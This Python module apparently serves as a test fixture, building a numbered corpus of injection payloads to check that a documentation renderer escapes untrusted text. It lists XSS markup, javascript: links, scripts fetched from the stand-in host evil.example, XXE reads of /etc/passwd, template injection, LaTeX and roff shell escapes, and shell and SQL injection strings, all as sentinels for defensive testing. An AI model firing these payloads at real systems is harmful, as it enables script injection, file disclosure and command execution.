"""Texts that would run, load or break something if a page passed them on.

Each carries its number, so that a page that runs it says which one it was: ``pwned(7)`` is a call of the sentinel,
``x-pwned-7`` an element of its own, ``evil.example`` an address that nothing may ask for.
"""

from __future__ import annotations

from dataclasses import dataclass
from itertools import count, product
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Iterator


@dataclass(frozen=True, slots=True, kw_only=True)
class Payload:
    """One text."""

    number: int
    family: str
    text: str


_ELEMENTS = (
    "<script>RUN</script>", "<ScRiPt >RUN</sCrIpT >", "<script src=//HOST/N.js></script>",
    "<script\n>RUN</script\n>", "<script/x>RUN</script>", "<scr<script>ipt>RUN</scr</script>ipt>",
    "<script type=module>RUN</script>", "<script>RUN//", "<script>/*", "<img src=x onerror=RUN>",
    '<img src="x" onerror="RUN">', "<img/src=x/onerror=RUN>", "<img src=//HOST/N.png>",
    "<img srcset='//HOST/N.png 2x'>", "<image href=//HOST/N.png>", "<body onload=RUN>", "<iframe src=//HOST/N>",
    "<iframe srcdoc='<script>parent.RUN</script>'>", "<frameset onload=RUN>", "<object data=//HOST/N></object>",
    "<embed src=//HOST/N>", "<applet code=N>", "<link rel=stylesheet href=//HOST/N.css>",
    "<link rel=prefetch href=//HOST/N>", "<style>@import '//HOST/N.css';</style>",
    "<style>*{background:url(//HOST/N.png)}</style>", "<base href=//HOST/>",
    "<meta http-equiv=refresh content='0;url=//HOST/N'>", "<meta name=referrer content=unsafe-url>",
    "<form action=//HOST/N><button>go</button></form>", "<input onfocus=RUN autofocus>",
    "<input type=image src=//HOST/N.png>", "<button formaction=javascript:RUN>go</button>",
    "<select onfocus=RUN autofocus></select>", "<textarea onfocus=RUN autofocus>", "<keygen onfocus=RUN autofocus>",
    "<video src=//HOST/N.mp4 onerror=RUN>", "<video poster=//HOST/N.png></video>",
    "<audio src=x onerror=RUN></audio>", "<video><source onerror=RUN></video>",
    "<details open ontoggle=RUN><summary>x</summary></details>", "<marquee onstart=RUN>x</marquee>",
    "<x-pwned-N>x</x-pwned-N>", "<x-pwned-N onclick=RUN contenteditable>", "<a href=javascript:RUN>x</a>",
    "<a href=//HOST/N ping=//HOST/N>x</a>", "<area href=javascript:RUN>", "<div style='background:url(//HOST/N.png)'>",
    "<div id=location></div><form name=body>", "<template><script>RUN</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=RUN>'>", "<title>RUN</title>", "<plaintext>",
    "<xmp><script>RUN</script></xmp>", "<table><td background=//HOST/N.png>", "<dialog open><x-pwned-N></dialog>",
    "<portal src=//HOST/N>", "<slot onslotchange=RUN>", "<input value='<x-pwned-N>' onblur=RUN>",
)  # fmt: skip
_FOREIGN = (
    "<svg onload=RUN>", "<svg/onload=RUN>", "<svg><script>RUN</script></svg>", "<svg><script href=//HOST/N.js />",
    "<svg><script xlink:href=data:,RUN></script></svg>", "<svg><a xlink:href=javascript:RUN><text>x</text></a></svg>",
    "<svg><animate onbegin=RUN attributeName=x dur=1s>", "<svg><set onbegin=RUN attributename=x>",
    "<svg><animate xlink:href=#a attributeName=href values=javascript:RUN /></svg>",
    "<svg><foreignObject><img src=x onerror=RUN></foreignObject></svg>", "<svg><use href=//HOST/N.svg#x></svg>",
    "<svg><image href=//HOST/N.png></svg>", "<svg><style><img src=x onerror=RUN></style></svg>",
    "<svg><desc><x-pwned-N></desc></svg>", "<svg><title><x-pwned-N></title></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=RUN>", "<math href=javascript:RUN>x</math>",
    "<math><maction actiontype='statusline#//HOST' xlink:href=javascript:RUN>x</maction></math>",
    "<math><annotation-xml encoding=text/html><x-pwned-N></annotation-xml></math>",
    "<?xml-stylesheet href='javascript:RUN'?>", "<?php RUN ?>", "<% RUN %>", "<!DOCTYPE x [<!ENTITY a 'RUN'>]>",
    "<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]><x-pwned-N>&a;</x-pwned-N>",
    "<!DOCTYPE x [<!ENTITY a 'aaaaaaaaaa'><!ENTITY b '&a;&a;&a;&a;&a;&a;&a;&a;'><!ENTITY c '&b;&b;&b;&b;&b;'>]>&c;",
    "<![CDATA[<script>RUN</script>]]>", "<!--><script>RUN</script>-->", "<!-- --!><img src=x onerror=RUN> -->",
    "<!--[if IE]><script>RUN</script><![endif]-->", "<html xmlns:x='http://www.w3.org/1999/xhtml'><x:script>RUN</x:script>",
)  # fmt: skip
_LEAVE = (
    '">', "'>", "` >", "</title>", "</textarea>", "</script>", "</style>", "-->", "--!>", "]]>", "</pre></div>",
    "</code></a>", "</svg>", "</noscript>", "*/", "%>", "?>", "}}", '\\">', "&quot;>",
)  # fmt: skip
"""Ways out of what the text may stand in ..."""
_ENTER = ("<script>RUN</script>", "<img src=x onerror=RUN>", "<x-pwned-N>")
"""... each followed by these."""
_ATTRIBUTES = (
    '" onmouseover="RUN" x="', "' onmouseover='RUN' x='", '" autofocus onfocus=RUN x="', '"onclick=RUN//',
    '" style="background:url(//HOST/N.png)" x="', '" style="position:fixed;inset:0" x="', '" href="javascript:RUN" x="',
    '" src="//HOST/N.png" x="', '" id="L1" class="repodoc-source" x="', '" srcdoc="<script>RUN</script>" x="',
    "x onerror=RUN", "x\tonerror=RUN", "x/onerror=RUN", "x\fonerror=RUN", '\\" onmouseover=\\"RUN',
    "&quot; onmouseover=&quot;RUN", '" target="_blank" ping="//HOST/N', '" data-content_root="//HOST/', "\" '>\"",
)  # fmt: skip
_ENTITIES = (
    "&lt;script&gt;RUN&lt;/script&gt;", "&#60;img src=x onerror=RUN&#62;", "&#x3c;x-pwned-N&#x3e;",
    "&#x3cscript&#x3eRUN", "&#0000060x-pwned-N&#0000062", "&LT;x-pwned-N&GT;", "&amp;lt;x-pwned-N&amp;gt;",
    "&NewLine;&Tab;javascript&colon;RUN", "&unknown;&;&#;&#x;&#1114112;", "&#0;&#1;&#xD800;&#xFFFF;", "&nbsp;&zwj;",
    "%3Cscript%3ERUN%3C/script%3E", "\\x3cscript\\x3eRUN\\x3c/script\\x3e", "\\u003cimg src=x onerror=RUN\\u003e",
    "+ADw-script+AD4-RUN+ADw-/script+AD4-", "\uff1cscript\uff1eRUN\uff1c/script\uff1e", "\u2039script\u203aRUN",
    "\u02bax onerror=RUN", "<\u0000script>RUN</script>", "\u00bcscript\u00beRUN\u00bc/script\u00be",
)  # fmt: skip
_ADDRESSES = (
    "javascript:RUN", "JaVaScRiPt:RUN", " javascript:RUN", "\tjavascript:RUN", "java\tscript:RUN", "java\nscript:RUN",
    "\x01javascript:RUN", "javascript\t:RUN", "javascript&colon;RUN", "&#106;avascript:RUN", "javascript:%52UN",
    "javascript://HOST/%0aRUN", "data:text/html,<script>RUN</script>", "data:text/html;base64,PHgtcHduZWQ+",
    "data:image/svg+xml,<svg onload=RUN>", "vbscript:RUN", "VBScript:MsgBox(N)", "livescript:RUN", "mocha:RUN",
    "view-source:javascript:RUN", "blob:null/RUN", "filesystem:http://HOST/N", "file:///etc/passwd", "//HOST/N",
    "\\\\HOST\\N", "/\\HOST/N", "https:HOST/N", 'http://HOST/N" onclick="RUN', "https://HOST/'onclick='RUN",
    "http://HOST/<x-pwned-N>", 'mailto:x@HOST?body=<x-pwned-N>"onclick=RUN', "httpx://HOST/N", "ftp://HOST/N",
    "//javascript:RUN", "?q=<x-pwned-N>", "#<img src=x onerror=RUN>", "../../../../../../etc/passwd",
    "jar:http://HOST!/N", "x:javascript:RUN", "\u2028javascript:RUN",
)  # fmt: skip
_LINKS = ("%s", "[x](%s)", "<%s>", "`x <%s>`_", "![x](%s)", "link:++%s++[x]", "[[%s][x]]")
_TEMPLATES = (
    "{{ 7*7 }}", "{{ config }}", "{% raw %}<x-pwned-N>{% endraw %}", "{% include '/etc/passwd' %}", "{# x #}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}", "{{ pathto('x', 1) }}", "{%- set title = 'RUN' -%}", "${RUN}",
    "#{RUN}", "<%= RUN %>", "{{constructor.constructor('RUN')()}}", "%(title)s %s %d %n", "{0} {title!r} {__class__}",
    "$$RUN$$", "\\(\\href{javascript:RUN}{x}\\)", "[[${RUN}]]", "@{RUN}", "{{{RUN}}}", "{{=<% %>=}}<%& RUN %>",
)  # fmt: skip
_MARKUP = (
    "\n\n.. raw:: html\n\n   <script>RUN</script>\n", "\n\n.. raw:: latex\n\n   \\input{/etc/passwd}\n",
    "\n\n.. include:: /etc/passwd\n", "\n\n.. literalinclude:: /etc/passwd\n", "\n\n.. role:: raw(raw)\n   :format: html\n",
    ":raw-html:`<script>RUN</script>`", ":raw:`<x-pwned-N>`", "|sub|\n\n.. |sub| replace:: <x-pwned-N>\n",
    "|img|\n\n.. |img| image:: //HOST/N.png\n", "\n\n.. image:: javascript:RUN\n", "\n\n.. image:: //HOST/N.png\n",
    "\n\n.. figure:: //HOST/N.svg\n   :target: javascript:RUN\n", "\n\n.. meta::\n   :http-equiv=refresh: 0;//HOST/N\n",
    "\n\n.. math:: \\href{javascript:RUN}{x}\n", "\n\n.. only:: html\n\n   <x-pwned-N>\n", "\n\n.. toctree::\n   :glob:\n\n   *\n",
    "\n\n.. automodule:: antigravity\n", "\n\n.. default-role:: raw\n\n`<x-pwned-N>`\n", '\n\n.. code:: html\n   :class: "><x-pwned-N>\n',
    '\n\n.. container:: x" onclick=RUN\n\n   x\n', "\n\n.. _javascript: javascript:RUN\n\njavascript_\n", "`x <javascript:RUN>`__",
    ":ref:`x <y>` :doc:`/etc/passwd` :download:`/etc/passwd`", ":file:`{<x-pwned-N>}` :kbd:`<x-pwned-N>`",
    "\n\n```{raw} html\n<script>RUN</script>\n```\n", "\n\n```{include} /etc/passwd\n```\n", "\n\n:::{raw} html\n<x-pwned-N>\n:::\n",
    "{raw}`<x-pwned-N>`", "\n\n---\nhtml_meta:\n  x: <x-pwned-N>\n---\n", "<https://HOST/N>", "<javascript:RUN>",
    "[x]: javascript:RUN\n\n[x]", "[x](<javascript:RUN> 'x')", "[x](https://HOST 'x\" onclick=\"RUN')", "![x][y]\n\n[y]: //HOST/N.png",
    "\n\n++++\n<script>RUN</script>\n++++\n", "pass:[<script>RUN</script>]", "+++<x-pwned-N>+++", "include::/etc/passwd[]",
    "image::javascript:RUN[]", "link:javascript:RUN[x]", "\n#+BEGIN_EXPORT html\n<script>RUN</script>\n#+END_EXPORT\n",
    "\n#+INCLUDE: /etc/passwd\n", "@@html:<script>RUN</script>@@", "[[javascript:RUN][x]]", "\n#+HTML: <x-pwned-N>\n",
    "{@link <x-pwned-N>} {@code </code><x-pwned-N>}", "<code><x-pwned-N></code>", "<a href='javascript:RUN'>x</a>",
    "\n@htmlonly <script>RUN</script> @endhtmlonly\n", "\n\\htmlonly<x-pwned-N>\\endhtmlonly\n", "**<x-pwned-N>** *<x-pwned-N>*",
    "`<x-pwned-N>` ``<x-pwned-N>``", "E<lt>script E<gt> L<x|javascript:RUN>", "\n=begin html\n\n<script>RUN</script>\n\n=end html\n",
)  # fmt: skip
_CHARACTERS = (
    "a\u202eRUN\u202cb", "\u2066<x-pwned-N>\u2069", "\u200f<x-pwned-N>", "<\u200bscript>RUN", "<scr\u00adipt>RUN</script>",
    "\u2028<x-pwned-N>\u2029", "a\u2028RUN;//", "\ufeff<script>RUN</script>", "a\x00<x-pwned-N>", "\x1b[31mRUN\x1b[0m",
    "\x1b]0;RUN\x07", "\x08\x08\x08RUN", "\x0b\x0c\x1c\x1d\x1e<x-pwned-N>", "\x7f\x80\x85\x9b", "\r<x-pwned-N>\rRUN",
    "\U000e0041\U000e0042", "\ufffe\uffff\ufdd0", "\U0001f600<x-pwned-N>", "a" * 300 + "<x-pwned-N>", "<" * 200,
    "&" * 200, "\u0301" * 50 + "<x-pwned-N>", "\u061c\u180e\u2060\u3164", "\u0130\u0131\u017f\u212a<x-pwned-N>",
)  # fmt: skip
_TOOLS = (
    "\\input{/etc/passwd}", "\\immediate\\write18{touch pwned}", "\\write18{touch pwned}", "\\openin5=/etc/passwd",
    "\\csname input\\endcsname /etc/passwd", "\\catcode`\\@=11", "\\def\\x{\\x}\\x", "\\end{sphinxVerbatim}\\input{x}",
    "\\end{document}", "\\href{run:/bin/sh}{x}", "^^5cinput{/etc/passwd}", "\\begin{verbatim}\\input{x}", "$\\input{x}$",
    "\\directlua{os.execute('x')}", "\\lstinputlisting{/etc/passwd}", "\\verb|x|\\input{x}", "%\n\\input{x}", "{}$&#^_~%\\",
    "\n.sy touch pwned\n", "\n.pso touch pwned\n", "\n.so /etc/passwd\n", "\n.open x /etc/passwd\n", "\n'sy touch pwned\n",
    "\\X'ps: exec x'", "\\*[x] \\n[x] \\!x", "\n.de x\n.sy x\n..\n", "\n@include /etc/passwd\n", "@verbatim\n@end verbatim",
    "@macro x\n@end macro", "@html\n<script>RUN</script>\n@end html", "; touch pwned", "$(touch pwned)", "`touch pwned`",
    "| touch pwned", "&& touch pwned", "--help", "-o/tmp/pwned", "~/pwned", "%PATH%", "$HOME", "\n\npwned()\n\n", "*", "' OR 1=1 --",
    "../../../pwned", "C:\\pwned", "CON", "a:b", "\\\\server\\share", "__proto__", "constructor", "toString", "DOCUMENTATION_OPTIONS",
)  # fmt: skip


def _iter_texts() -> Iterator[tuple[str, str]]:
    for family, texts in {
        "element": _ELEMENTS,
        "svg, math and xml": _FOREIGN,
        "attribute": _ATTRIBUTES,
        "entity": _ENTITIES,
        "template": _TEMPLATES,
        "markup": _MARKUP,
        "character": _CHARACTERS,
        "tool": _TOOLS,
    }.items():
        for text in texts:
            yield family, text
    for leave, enter in product(_LEAVE, _ENTER):
        yield "breakout", leave + enter
    for number, address in enumerate(_ADDRESSES):
        for form in (_LINKS[0], _LINKS[1 + number % 2], _LINKS[3 + number % 4]):
            yield "address", form % address


def _list() -> tuple[Payload, ...]:
    numbers = count(1)
    payloads = []
    for family, text in _iter_texts():
        number = next(numbers)
        filled = (
            text.replace("RUN", f"pwned({number})")
            .replace("HOST", "evil.example")
            .replace("-N", f"-{number}")
        )
        payloads.append(Payload(number=number, family=family, text=filled.replace("/N", f"/{number}")))
    return tuple(payloads)


PAYLOADS = _list()
"""All of them."""
